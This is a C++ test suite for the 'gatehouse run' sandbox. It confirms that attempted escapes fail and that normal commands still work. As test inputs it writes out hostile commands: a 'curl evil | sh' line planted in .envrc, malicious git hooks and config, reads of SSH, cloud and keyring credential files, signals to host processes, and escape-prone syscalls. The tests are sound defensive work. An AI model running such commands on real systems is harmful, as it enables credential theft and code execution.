// SPDX-License-Identifier: GPL-3.0-or-later
// `gatehouse run`: commands in the bubblewrap sandbox, each escape attempt checked from outside
// (the side effect did not happen), and ordinary work that must still work inside. The network
// and the proxy are in tst_runnetwork.cpp.
#include "runsupport.h"
#include "testenv.h"

#include <QDir>
#include <QDirIterator>
#include <QHash>
#include <QElapsedTimer>
#include <QLocalServer>
#include <QLocalSocket>
#include <QFile>
#include <QProcess>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>

#include <sys/socket.h>
#include <sys/un.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sched.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>

#include <cerrno>
#include <cstdio>
#include <cstddef>
#include <cstdlib>
#include <cstring>
#include <unistd.h>

namespace test = gatehouse::test;

using test::allow;
using test::contents;
using test::pgrep;
using test::Run;
using test::sandboxed;
using test::shell;

class TestRun final : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString m_project;

    static QString privateConfigFile()
    {
        return qEnvironmentVariable("XDG_CONFIG_HOME") + QStringLiteral("/gatehouse/app-run-private.txt");
    }

private Q_SLOTS:
    void initTestCase()
    {
        test::requireIsolatedEnvironment();
        // The sandboxes' lock and record of stand-ins (in the runtime folder) of this test's own:
        // the checks that no stand-in is left after a run would otherwise depend on whether a test
        // that ctest -j runs alongside still has a sandbox running, which puts the cleanup off.
        const QString runtime = test::scratchRoot() + QStringLiteral("/runtime-run");
        QVERIFY(QDir().mkpath(runtime));
        QVERIFY(QFile::setPermissions(runtime, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
        qputenv("XDG_RUNTIME_DIR", QFile::encodeName(runtime));
        m_project = QDir(m_dir.path()).canonicalPath() + QStringLiteral("/proj");
        QDir().mkpath(m_project);
        test::git(m_project, {QStringLiteral("init"), QStringLiteral("-q")});
        test::writeFile(m_project + QStringLiteral("/.mcp.json"), "{}");
        test::writeFile(m_project + QStringLiteral("/.vscode/settings.json"), "{}");
        test::writeFile(QDir::homePath() + QStringLiteral("/.ssh/id_rsa"), "PRIVATE KEY");
        test::writeFile(QDir::homePath() + QStringLiteral("/.aws/credentials"), "aws secret");
        test::writeFile(QDir::homePath() + QStringLiteral("/.netrc"), "machine x password y");
        for (const char *path : {"/.gnupg/private-keys-v1.d/key", "/.local/share/keyrings/login.keyring", "/.git-credentials",
                                 "/.docker/config.json", "/.kube/config", "/.config/gcloud/credentials.db"})
            test::writeFile(QDir::homePath() + QLatin1StringView(path), "PRIVATE secret password");
        // A file of its own in Gatehouse's config folder (the sandbox hides the whole folder): the
        // harness's trust.json is shared with the tests that ctest -j runs alongside this one.
        test::writeFile(privateConfigFile(), "PRIVATE");
    }

    void ordinaryWorkWorks()
    {
        const Run run = shell(m_project, QStringLiteral("echo made > made.txt && mkdir -p sub && cat made.txt && pwd"));
        QCOMPARE(run.exitCode, 0);
        QCOMPARE(run.out, QStringLiteral("made\n") + m_project + u'\n');
        QCOMPARE(contents(m_project + QStringLiteral("/made.txt")), QByteArray("made\n"));
        QVERIFY(QFileInfo(m_project + QStringLiteral("/sub")).isDir());
    }

    void gitAndACompilerWork()
    {
        const Run run = shell(m_project, QStringLiteral(
            "git -c user.name=t -c user.email=t@e add made.txt && git -c user.name=t -c user.email=t@e commit -qm x && "
            "printf 'int main(void){return 7;}' > t.c && cc t.c -o t && ./t; echo $?"));
        QVERIFY2(run.out.endsWith(QStringLiteral("7\n")), qPrintable(run.out + run.err));
        QVERIFY(!test::git(m_project, {QStringLiteral("log"), QStringLiteral("--oneline")}).isEmpty());
    }

    void exitStatusPassesThrough()
    {
        QCOMPARE(shell(m_project, QStringLiteral("exit 42")).exitCode, 42);
    }

    void writesOutsideTheWritableFoldersFail_data()
    {
        QTest::addColumn<QString>("target");
        QTest::newRow("home") << QDir::homePath() + QStringLiteral("/escaped.txt");
        QTest::newRow("host tmp") << QStringLiteral("/tmp/gatehouse-escaped.txt");
        QTest::newRow("dev shm") << QStringLiteral("/dev/shm/gatehouse-escaped.txt");
        QTest::newRow("var tmp") << QStringLiteral("/var/tmp/gatehouse-escaped.txt");
        QTest::newRow("sibling of the project") << m_dir.path() + QStringLiteral("/proj-evil.txt");
        QTest::newRow("etc") << QStringLiteral("/etc/gatehouse-escaped");
    }

    void writesOutsideTheWritableFoldersFail()
    {
        QFETCH(QString, target);
        QFile::remove(target);
        shell(m_project, QStringLiteral("echo escaped > '%1'").arg(target));
        QVERIFY2(!QFile::exists(target), qPrintable(target));
    }

    void protectedEntriesStayReadOnly_data()
    {
        QTest::addColumn<QString>("entry");
        QTest::newRow("git config") << ".git/config";
        QTest::newRow("new git hook") << ".git/hooks/pre-commit";
        QTest::newRow("mcp config") << ".mcp.json";
        QTest::newRow("editor settings") << ".vscode/settings.json";
    }

    void protectedEntriesStayReadOnly()
    {
        QFETCH(QString, entry);
        const QString path = m_project + u'/' + entry;
        const QByteArray before = contents(path);
        shell(m_project, QStringLiteral("echo '[core] fsmonitor = evil' >> '%1'").arg(entry));
        QCOMPARE(contents(path), before);
        // Nor can it be replaced by a rename or removed.
        shell(m_project, QStringLiteral("mv '%1' moved; rm -rf '%1'").arg(entry));
        QCOMPARE(contents(path), before);
    }

    void theHooksFolderCannotBeRenamedAway()
    {
        shell(m_project, QStringLiteral("mv .git/hooks .git/hooks-old && mkdir .git/hooks && echo evil > .git/hooks/pre-commit"));
        QVERIFY(!QFile::exists(m_project + QStringLiteral("/.git/hooks/pre-commit")));
        QVERIFY(!QFile::exists(m_project + QStringLiteral("/.git/hooks-old")));
    }

    void credentialStoresAreUnreadable_data()
    {
        QTest::addColumn<QString>("path");
        QTest::newRow("ssh key") << QDir::homePath() + QStringLiteral("/.ssh/id_rsa");
        QTest::newRow("aws") << QDir::homePath() + QStringLiteral("/.aws/credentials");
        QTest::newRow("netrc") << QDir::homePath() + QStringLiteral("/.netrc");
        QTest::newRow("gnupg") << QDir::homePath() + QStringLiteral("/.gnupg/private-keys-v1.d/key");
        QTest::newRow("keyrings") << QDir::homePath() + QStringLiteral("/.local/share/keyrings/login.keyring");
        QTest::newRow("git credentials") << QDir::homePath() + QStringLiteral("/.git-credentials");
        QTest::newRow("docker") << QDir::homePath() + QStringLiteral("/.docker/config.json");
        QTest::newRow("kube") << QDir::homePath() + QStringLiteral("/.kube/config");
        QTest::newRow("gcloud") << QDir::homePath() + QStringLiteral("/.config/gcloud/credentials.db");
        QTest::newRow("gatehouse config") << privateConfigFile();
    }

    void credentialStoresAreUnreadable()
    {
        QFETCH(QString, path);
        const Run run = shell(m_project, QStringLiteral("cat '%1'; ls -a '%2'").arg(path, QFileInfo(path).absolutePath()));
        QVERIFY2(!run.out.contains(QStringLiteral("PRIVATE")) && !run.out.contains(QStringLiteral("secret"))
                     && !run.out.contains(QStringLiteral("password")),
                 qPrintable(run.out));
    }

    void deniedByOption()
    {
        test::writeFile(m_project + QStringLiteral("/notes/private.txt"), "do not read");
        const Run run = shell(m_project, QStringLiteral("cat notes/private.txt"),
                              {QStringLiteral("--deny-read"), m_project + QStringLiteral("/notes")});
        QVERIFY(!run.out.contains(QStringLiteral("do not read")));
    }

    void secretVariablesDoNotReachTheCommand()
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("ANTHROPIC_API_KEY"), QStringLiteral("sk-ant-leak"));
        env.insert(QStringLiteral("MY_SERVICE_TOKEN"), QStringLiteral("token-leak"));
        env.insert(QStringLiteral("DB_PASSWORD"), QStringLiteral("password-leak"));
        env.insert(QStringLiteral("HARMLESS"), QStringLiteral("visible"));
        const Run run = sandboxed(m_project, {QStringLiteral("env")}, {}, env);
        QCOMPARE(run.exitCode, 0);
        // An allowlist: not even a harmless name passes unless named (the rest is tst_runenv.cpp).
        QVERIFY(!run.out.contains(QStringLiteral("HARMLESS=visible")));
        QVERIFY(run.out.contains(QStringLiteral("PATH=")));
        for (const char *leak : {"sk-ant-leak", "token-leak", "password-leak"})
            QVERIFY2(!run.out.contains(QString::fromLatin1(leak)), leak);
        QVERIFY(run.out.contains(QStringLiteral("TMPDIR=/tmp")));
    }

    void hostProcessesCannotBeSignalled()
    {
        QProcess victim;
        victim.start(QStringLiteral("sleep"), {QStringLiteral("60")});
        QVERIFY(victim.waitForStarted());
        shell(m_project, QStringLiteral("kill -9 %1").arg(victim.processId()));
        QVERIFY(!victim.waitForFinished(300));
        QCOMPARE(victim.state(), QProcess::Running);
        victim.kill();
        victim.waitForFinished();
    }

    void nothingOutlivesTheSandbox()
    {
        const Run run = shell(m_project, QStringLiteral("(sleep 31337 &) ; setsid sleep 31338 & echo started"));
        QCOMPARE(run.exitCode, 0);
        QProcess pgrep;
        pgrep.start(QStringLiteral("pgrep"), {QStringLiteral("-f"), QStringLiteral("^sleep 3133[78]")});
        pgrep.waitForFinished();
        QVERIFY2(pgrep.readAllStandardOutput().trimmed().isEmpty(), "a process of the sandbox is still running");
    }

    void mountingFails()
    {
        const Run run = shell(m_project, QStringLiteral("mkdir -p m && mount -t tmpfs none m && echo mounted"));
        QVERIFY(!run.out.contains(QStringLiteral("mounted")));
    }

    void timeoutStopsEverything()
    {
        QElapsedTimer timer;
        timer.start();
        const Run run = shell(m_project, QStringLiteral("sleep 30 & sleep 30"), {QStringLiteral("--timeout"), QStringLiteral("1")});
        QCOMPARE(run.exitCode, 124);
        QVERIFY(timer.elapsed() < 20000);
        QVERIFY(run.err.contains(QStringLiteral("stopped after 1 seconds")));
    }

    void unixSocketsOfTheHostAreUnreachable()
    {
        // A host-side socket inside the project, which the sandbox's view includes.
        QLocalServer server;
        const QString path = m_project + QStringLiteral("/host.sock");
        QLocalServer::removeServer(path);
        QVERIFY(server.listen(path));
        const QString self = test::childProgram(m_project, QStringLiteral("tst_run-child"));

        // Outside the sandbox the same child connects: the check can fail.
        QProcess outside;
        outside.start(self, {QStringLiteral("--child-unix-connect"), path});
        QVERIFY(outside.waitForFinished(30000));
        QCOMPARE(outside.exitCode(), 0);
        QTRY_VERIFY(server.hasPendingConnections());
        delete server.nextPendingConnection();

        const Run run = sandboxed(m_project, {self, QStringLiteral("--child-unix-connect"), path});
        QCOMPARE(run.exitCode, 1);
        QVERIFY2(run.out.contains(QStringLiteral("socket: Operation not permitted")), qPrintable(run.out + run.err));
        QTest::qWait(200);
        QVERIFY(!server.hasPendingConnections());
    }

    void seccompAndNoNewPrivsAreOn()
    {
        const Run run = shell(m_project, QStringLiteral("grep -E 'NoNewPrivs|Seccomp:|^Cap' /proc/self/status"));
        QVERIFY2(run.out.contains(QStringLiteral("NoNewPrivs:\t1")), qPrintable(run.out));
        QVERIFY2(run.out.contains(QStringLiteral("Seccomp:\t2")), qPrintable(run.out));
        // The helper mounted with CAP_SYS_ADMIN; the command has no capability left at all.
        for (const char *set : {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"})
            QVERIFY2(run.out.contains(QLatin1StringView(set) + QStringLiteral(":\t0000000000000000")), qPrintable(run.out));
    }

    void aProtectedSymlinkStopsTheSandbox()
    {
        // A link cannot be kept from being replaced (a mount lands on its target): no run at all.
        QTemporaryDir dir;
        const QString linked = QDir(dir.path()).canonicalPath();
        test::writeFile(linked + QStringLiteral("/real-envrc"), "export X=1");
        QVERIFY(QFile::link(QStringLiteral("real-envrc"), linked + QStringLiteral("/.envrc")));
        const Run run = shell(linked, QStringLiteral("touch ran; rm .envrc; echo evil > .envrc"));
        if (qEnvironmentVariable("GATEHOUSE_SANDBOX_STAGING") != QStringLiteral("fallback")) {
            // Staged writes need no mount on it: the command runs, and the link is held, not replaced.
            QCOMPARE(run.exitCode, 0);
            QVERIFY(QFileInfo::exists(linked + QStringLiteral("/ran")));
            QCOMPARE(QFileInfo(linked + QStringLiteral("/.envrc")).symLinkTarget(), linked + QStringLiteral("/real-envrc"));
            QCOMPARE(contents(linked + QStringLiteral("/real-envrc")), QByteArray("export X=1"));
            return;
        }
        QCOMPARE(run.exitCode, 125);
        QVERIFY2(run.err.contains(QStringLiteral(".envrc is a symbolic link")), qPrintable(run.err));
        QVERIFY(!QFileInfo::exists(linked + QStringLiteral("/ran")));
    }

    void aLinkedCredentialStoreIsHiddenWhereItPoints()
    {
        // ~/.config/gh is a link into a dotfiles folder: what it points to is hidden, and the
        // command still runs.
        test::writeFile(QDir::homePath() + QStringLiteral("/dotfiles/gh/hosts.yml"), "PRIVATE gh token");
        QDir().mkpath(QDir::homePath() + QStringLiteral("/.config"));
        QFile::remove(QDir::homePath() + QStringLiteral("/.config/gh")); // app.run and app.runfallback share the home
        QVERIFY(QFile::link(QDir::homePath() + QStringLiteral("/dotfiles/gh"), QDir::homePath() + QStringLiteral("/.config/gh")));
        const Run run = shell(m_project, QStringLiteral("cat ~/.config/gh/hosts.yml ~/dotfiles/gh/hosts.yml; echo ran"));
        QCOMPARE(run.exitCode, 0);
        QVERIFY(run.out.contains(QStringLiteral("ran")));
        QVERIFY2(!run.out.contains(QStringLiteral("PRIVATE")), qPrintable(run.out));
    }

    void missingProtectedEntriesCannotBeCreated_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QString>("entry");
        QTest::newRow("gatehouse settings") << "mkdir -p .gatehouse && echo '{}' > .gatehouse/settings.json" << ".gatehouse";
        QTest::newRow("claude settings") << "mkdir -p .claude; echo x > .claude/settings.json" << ".claude";
        QTest::newRow("mcp config") << "echo '{\"mcpServers\":{}}' > .mcp.json" << ".mcp.json";
        QTest::newRow("editor tasks") << "mkdir .vscode; echo x > .vscode/tasks.json" << ".vscode";
        QTest::newRow("idea") << "mkdir .idea; echo x > .idea/workspace.xml" << ".idea";
        QTest::newRow("envrc") << "echo 'curl evil | sh' > .envrc" << ".envrc";
        QTest::newRow("shell start-up file") << "echo evil >> .bashrc; echo evil > .zshrc; echo evil > .profile" << ".bashrc";
        QTest::newRow("npmrc") << "echo 'script-shell=/tmp/evil' > .npmrc" << ".npmrc";
        QTest::newRow("gitmodules") << "printf '[submodule \"x\"]\\n' > .gitmodules" << ".gitmodules";
        QTest::newRow("a git folder with a hook") << "git init -q; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout" << ".git";
        QTest::newRow("through a symlink") << "ln -s .mcp.json link; echo x > link" << ".mcp.json";
        QTest::newRow("by renaming a file onto it") << "echo x > made; mv made .envrc" << ".envrc";
    }

    void missingProtectedEntriesCannotBeCreated()
    {
        QFETCH(QString, script);
        QFETCH(QString, entry);
        // A folder without git or any protected entry: all of them are missing.
        QTemporaryDir dir;
        const QString bare = QDir(dir.path()).canonicalPath();
        const Run run = shell(bare, script + QStringLiteral("; echo done"));
        QVERIFY2(run.out.contains(QStringLiteral("done")), qPrintable(run.err));
        QVERIFY2(!QFileInfo::exists(bare + u'/' + entry), qPrintable(entry + u' ' + run.err));
        // And the empty stand-ins are gone again: the folder holds what the command made, no more.
        QDirIterator it(bare, QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
        while (it.hasNext()) {
            const QString name = QFileInfo(it.next()).fileName();
            QVERIFY2(name == QStringLiteral("made") || name == QStringLiteral("link"), qPrintable(name));
        }
    }

    void aLongerSandboxKeepsItsStandIns()
    {
        // While one sandbox still runs, another one ending must not take the stand-ins away
        // (on the host, removing a mount point detaches it in the other sandbox). With staged
        // writes there are no stand-ins at all: the host never sees an entry the command made.
        const bool staged = qEnvironmentVariable("GATEHOUSE_SANDBOX_STAGING") != QStringLiteral("fallback");
        QTemporaryDir dir;
        const QString bare = QDir(dir.path()).canonicalPath();
        QProcess longer;
        longer.setWorkingDirectory(bare);
        longer.start(QStringLiteral(GATEHOUSE_BINARY),
                     {QStringLiteral("run"), QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
                      QStringLiteral("echo waiting; read go; echo '{}' > .mcp.json; echo tried")});
        QVERIFY(longer.waitForStarted());
        QByteArray out;
        QVERIFY(QTest::qWaitFor([&] { return (out += longer.readAllStandardOutput()).contains("waiting"); }, 10000));
        QCOMPARE(QFileInfo::exists(bare + QStringLiteral("/.mcp.json")), !staged); // the fallback's stand-in
        QCOMPARE(shell(bare, QStringLiteral("true")).exitCode, 0);
        QCOMPARE(QFileInfo::exists(bare + QStringLiteral("/.mcp.json")), !staged);
        longer.write("go\n");
        longer.closeWriteChannel();
        QVERIFY(QTest::qWaitFor([&longer] { return longer.state() == QProcess::NotRunning; }, 30000));
        out += longer.readAllStandardOutput();
        QVERIFY(out.contains("tried"));
        QVERIFY(!QFileInfo::exists(bare + QStringLiteral("/.mcp.json")));
    }

    void newNamespacesAreRefused()
    {
        const Run run = shell(m_project, QStringLiteral("unshare -r true && echo unshared; unshare -n true && echo netns"));
        QVERIFY2(!run.out.contains(QStringLiteral("unshared")) && !run.out.contains(QStringLiteral("netns")), qPrintable(run.out));
    }

    void theSandboxDiesWithGatehouse()
    {
        QProcess process;
        process.setWorkingDirectory(m_project);
        QFile::remove(m_project + QStringLiteral("/started"));
        process.start(QStringLiteral(GATEHOUSE_BINARY),
                      {QStringLiteral("run"), QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
                       QStringLiteral("sleep 31339 & touch started; sleep 31340")});
        QVERIFY(process.waitForStarted());
        // Killed once the command runs in its sandbox (not while Gatehouse is still starting it).
        QTRY_VERIFY_WITH_TIMEOUT(!pgrep(QStringLiteral("^sleep 3134[0]")).isEmpty(), 10000);
        ::kill(static_cast<pid_t>(process.processId()), SIGKILL);
        QVERIFY(process.waitForFinished());
        QTRY_VERIFY_WITH_TIMEOUT(pgrep(QStringLiteral("^sleep 313(39|40)")).isEmpty(), 10000);
    }

    void theSandboxDiesWithGatehouseAtAnyMoment()
    {
        // Killed while bubblewrap is still building the sandbox, before its own parent-death
        // signal is armed: the helper's lifeline takes the sandbox down then.
        for (int delayMs = 0; delayMs <= 60; delayMs += 4) {
            QProcess process;
            process.setWorkingDirectory(m_project);
            process.start(QStringLiteral(GATEHOUSE_BINARY), {QStringLiteral("run"), QStringLiteral("--"), QStringLiteral("sleep"),
                                                              QStringLiteral("31341")});
            QVERIFY(process.waitForStarted());
            QTest::qWait(delayMs);
            ::kill(static_cast<pid_t>(process.processId()), SIGKILL);
            QVERIFY(process.waitForFinished());
        }
        QTRY_VERIFY_WITH_TIMEOUT(pgrep(QStringLiteral("^sleep 31341")).isEmpty(), 10000);
        // Nor is any part of bubblewrap left behind, whatever moment of its setup the kill hit.
        QTRY_VERIFY_WITH_TIMEOUT(pgrep(QStringLiteral("^/usr/bin/bwrap .* sleep 31341$")).isEmpty(), 10000);
    }

    void onlyTheStandardDescriptorsReachTheCommand_data()
    {
        QTest::addColumn<QStringList>("options");
        QTest::newRow("no network") << QStringList{};
        // With an allowed host the proxy listens and the helper starts its bridge before the command.
        QTest::newRow("with the proxy bridge") << allow(QStringLiteral("example.org"));
    }

    void onlyTheStandardDescriptorsReachTheCommand()
    {
        // Gatehouse's own descriptors (its log file, the proxy's sockets, the status pipe, the
        // lifeline) stay outside, and so does one Gatehouse inherited. The command lists what it
        // got from exec itself: a shell that lists /proc/$$/fd from a pipeline (`ls | tr`) also
        // lists that pipeline's own pipe, which it holds until it has forked both sides.
        QFETCH(QStringList, options);
        const QString self = test::childProgram(m_project, QStringLiteral("tst_run-child"));
        int inherited[2] = {-1, -1};
        QCOMPARE(::pipe(inherited), 0); // without close-on-exec: Gatehouse gets both ends
        const Run run = sandboxed(m_project, {self, QStringLiteral("--child-descriptors")}, options);
        // Outside the sandbox the same listing shows them: the check can fail.
        QProcess outside;
        outside.start(self, {QStringLiteral("--child-descriptors")});
        QVERIFY(outside.waitForFinished(30000));
        const QStringList outsideFds = test::descriptorNumbers(QString::fromUtf8(outside.readAllStandardOutput()));
        const QString inheritedFd = QString::number(inherited[1]);
        ::close(inherited[0]);
        ::close(inherited[1]);
        QVERIFY2(outsideFds.contains(inheritedFd), qPrintable(outsideFds.join(u' ')));
        QCOMPARE(run.exitCode, 0);
        const QStringList standard{QStringLiteral("0"), QStringLiteral("1"), QStringLiteral("2")};
        QVERIFY2(test::descriptorNumbers(run.out) == standard, qPrintable(run.out + run.err));
    }

    void escapeProneCallsAreRefused()
    {
        const QString self = test::childProgram(m_project, QStringLiteral("tst_run-child"));
        const Run run = sandboxed(m_project, {self, QStringLiteral("--child-syscalls")});
        QCOMPARE(run.exitCode, 0);
        const QStringList lines = run.out.split(u'\n', Qt::SkipEmptyParts);
        QVERIFY2(lines.size() >= 12, qPrintable(run.out));
        for (const QString &line : lines) {
            const bool clone3 = line.startsWith(QStringLiteral("clone3 "));
            QVERIFY2(line.endsWith(clone3 ? QStringLiteral(" ENOSYS") : QStringLiteral(" EPERM")), qPrintable(line));
        }
        // Outside the sandbox the same calls are not all refused: the check can fail.
        QProcess outside;
        outside.start(self, {QStringLiteral("--child-syscalls")});
        QVERIFY(outside.waitForFinished(30000));
        const QByteArray free = outside.readAllStandardOutput();
        QVERIFY2(free.contains("ptrace ok") && free.contains("socket-unix ok"), free.constData());
    }

    void selfTestSaysWhatWorks()
    {
        QProcess process;
        process.start(QStringLiteral(GATEHOUSE_BINARY), {QStringLiteral("run"), QStringLiteral("--self-test")});
        QVERIFY(process.waitForFinished(30000));
        const QString out = QString::fromUtf8(process.readAllStandardOutput());
        QCOMPARE(process.exitCode(), 0);
        QVERIFY2(out.contains(QStringLiteral("ok      a sandboxed command: ran with the seccomp filter")), qPrintable(out));
        QVERIFY(out.contains(QStringLiteral("The sandbox works here.")));
    }

    void selfTestSaysWhatIsMissing()
    {
        QProcess process;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("GATEHOUSE_BWRAP"), QStringLiteral("/nonexistent/bwrap"));
        process.setProcessEnvironment(env);
        process.start(QStringLiteral(GATEHOUSE_BINARY), {QStringLiteral("run"), QStringLiteral("--self-test")});
        QVERIFY(process.waitForFinished(30000));
        const QString out = QString::fromUtf8(process.readAllStandardOutput());
        QCOMPARE(process.exitCode(), 125);
        QVERIFY2(out.contains(QStringLiteral("FAILED  bubblewrap: bubblewrap (bwrap) is not installed")), qPrintable(out));
        QVERIFY(out.contains(QStringLiteral("fix: install the bubblewrap package")));
    }

    void noSandboxNoRun()
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("GATEHOUSE_BWRAP"), QStringLiteral("/nonexistent/bwrap"));
        const Run run = sandboxed(m_project, {QStringLiteral("touch"), QStringLiteral("ran.txt")}, {}, env);
        QCOMPARE(run.exitCode, 125);
        QVERIFY2(run.err.contains(QStringLiteral("bubblewrap")), qPrintable(run.err));
        QVERIFY(!QFile::exists(m_project + QStringLiteral("/ran.txt")));
    }
};

// Run as the child inside the sandbox: try to connect to a Unix socket, say what happened.
int childUnixConnect(const char *path)
{
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) {
        std::printf("socket: %s\n", std::strerror(errno));
        return 1;
    }
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    socklen_t size = sizeof address;
    if (path[0] == '@') { // an abstract socket: a NUL first, and the length counts
        std::strncpy(address.sun_path + 1, path + 1, sizeof address.sun_path - 2);
        size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(path + 1));
    } else {
        std::strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    }
    if (::connect(fd, reinterpret_cast<sockaddr *>(&address), size) != 0) {
        std::printf("connect: %s\n", std::strerror(errno));
        return 2;
    }
    std::printf("connected\n");
    ::close(fd);
    return 0;
}

// Run as the child: tries each escape-prone call and prints "name ok" or "name ERRNO".
int childSyscalls()
{
    const auto report = [](const char *name, long result) {
        std::printf("%s %s\n", name, result >= 0 ? "ok" : errno == EPERM ? "EPERM" : errno == ENOSYS ? "ENOSYS" : std::strerror(errno));
    };
    report("socket-unix", ::socket(AF_UNIX, SOCK_STREAM, 0));
    const pid_t child = ::fork();
    if (child == 0)
        ::_exit(::ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) == 0 ? 0 : errno);
    int status = 0;
    ::waitpid(child, &status, 0);
    errno = WEXITSTATUS(status);
    report("ptrace", WEXITSTATUS(status) == 0 ? 0 : -1);
    report("unshare", ::unshare(CLONE_NEWUSER));
    report("mount", ::mount("none", "/tmp", "tmpfs", 0, nullptr));
    report("keyctl", ::syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
    report("bpf", ::syscall(SYS_bpf, 0, nullptr, 0));
    report("perf_event_open", ::syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0));
    report("userfaultfd", ::syscall(SYS_userfaultfd, 0));
    report("io_uring_setup", ::syscall(SYS_io_uring_setup, 1, nullptr));
    report("setns", ::syscall(SYS_setns, -1, 0));
    report("process_vm_readv", ::syscall(SYS_process_vm_readv, ::getpid(), nullptr, 0, nullptr, 0, 0));
    report("open_by_handle_at", ::syscall(SYS_open_by_handle_at, -1, nullptr, 0));
    report("clone-newuser", ::syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, 0) == 0 ? (::_exit(0), 0) : -1);
    report("clone3", ::syscall(SYS_clone3, nullptr, 0));
    report("chroot", ::chroot("/"));
    char c = 'x';
    report("ioctl-tiocsti", ::ioctl(0, TIOCSTI, &c) == 0 || errno != EPERM ? 0 : -1);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 2 && std::strcmp(argv[1], "--child-syscalls") == 0)
        return childSyscalls();
    if (argc == 2 && std::strcmp(argv[1], "--child-descriptors") == 0)
        return test::printDescriptors();
    if (argc == 3 && std::strcmp(argv[1], "--child-unix-connect") == 0)
        return childUnixConnect(argv[2]);
    QCoreApplication app(argc, argv);
    TestRun test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_run.moc"
